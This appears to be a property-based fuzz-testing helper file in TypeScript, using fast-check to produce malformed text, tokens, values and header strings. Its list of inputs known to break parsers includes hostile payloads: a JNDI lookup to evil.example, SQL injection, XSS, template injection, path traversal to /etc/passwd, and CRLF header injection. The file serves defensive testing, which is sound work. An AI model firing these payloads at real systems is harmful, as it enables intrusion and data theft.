import fc from 'fast-check';
import { createToken } from '../../lib/crypto/token.js';

/** What has broken parsers elsewhere. */
const NOTORIOUS = [
  '',
  ' ',
  '\0',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
  'a\r\nSet-Cookie: latchkey=x',
  '\u2028\u2029\u0085',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  'İ',
  'ß',
  'K',
  'ı',
  '﷽',
  "' OR 1=1 --",
  '":x\\\'',
  '\x24{jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%00',
  '%ff',
  '%',
  '%u0041',
  '../../etc/passwd',
  '1e999',
  '-0',
  '9007199254740993',
  '9'.repeat(400),
  'a'.repeat(255),
  'a'.repeat(256),
  '😀'.repeat(200),
  'e\u0301'.repeat(100),
  '\u202egnp.exe',
];

/** Text of UTF-16 units, of which some make no characters. */
const illFormed = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 })
  .map((units) => String.fromCharCode(...units));

/** Any text. */
export const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 60 }) },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: illFormed },
  { weight: 3, arbitrary: fc.constantFrom(...NOTORIOUS) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 3 }), fc.nat(5000)).map(([a, n]) => a.repeat(n)) },
);

/** Text of pieces that mean something to a parser. */
export const piecesOf = (pieces: readonly string[], maxLength = 10): fc.Arbitrary<string> =>
  fc
    .array(fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...pieces) }, fc.string({ maxLength: 4 })), {
      maxLength,
    })
    .map((parts) => parts.join(''));

/** A text with a few changes. */
export const changed = (original: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc
    .tuple(
      original,
      fc.nat(),
      fc.nat(3),
      fc.oneof(fc.string({ maxLength: 3 }), fc.constantFrom(...NOTORIOUS)),
    )
    .map(([whole, at, dropped, added]) => {
      const index = whole.length === 0 ? 0 : at % (whole.length + 1);
      return whole.slice(0, index) + added + whole.slice(index + dropped);
    });

/** The prefixes of all tokens. */
export const PREFIXES = ['lks_', 'lka_', 'lkd_', 'lkm_', 'lku_', 'lkb_', 'lkk_', 'lkp_'] as const;

/** Tokens that have the right form, that nearly have it, and other text. */
export const token: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PREFIXES).map((prefix) => createToken(prefix)),
  changed(fc.constantFrom(...PREFIXES).map((prefix) => createToken(prefix))),
  text,
);

/** Any value, as code of an app could pass it. */
export const value: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: text },
  {
    weight: 3,
    arbitrary: fc.anything({
      withBigInt: true,
      withDate: true,
      withMap: true,
      withSet: true,
      withNullPrototype: true,
      withObjectString: true,
      withSparseArray: true,
      withTypedArray: true,
      maxDepth: 3,
    }),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      undefined,
      Number.NaN,
      Number.POSITIVE_INFINITY,
      -1,
      0,
      1,
      2 ** 53,
      true,
      Symbol('a symbol'),
      () => undefined,
      class {},
      /(a+)+$/,
      [],
      {},
      [null],
      circle(),
    ),
  },
);

function circle(): object {
  const one: Record<string, unknown> = {};
  one.self = one;
  return one;
}

/** Bytes that are another text in HTTP headers: everything but CR and LF. */
export const headerText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 60 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(
        fc.oneof(fc.constant(9), fc.integer({ min: 32, max: 126 }), fc.integer({ min: 128, max: 255 })),
        {
          maxLength: 60,
        },
      )
      .map((bytes) => Buffer.from(bytes).toString('latin1')),
  },
  { weight: 1, arbitrary: fc.nat(6000).map((length) => 'a'.repeat(length)) },
);

/** A value for a header: Node's client sends no other characters. */
export const sendable = (header: string): string => header.replace(/[^\t\x20-\x7e\x80-\xff]/g, '').trim();
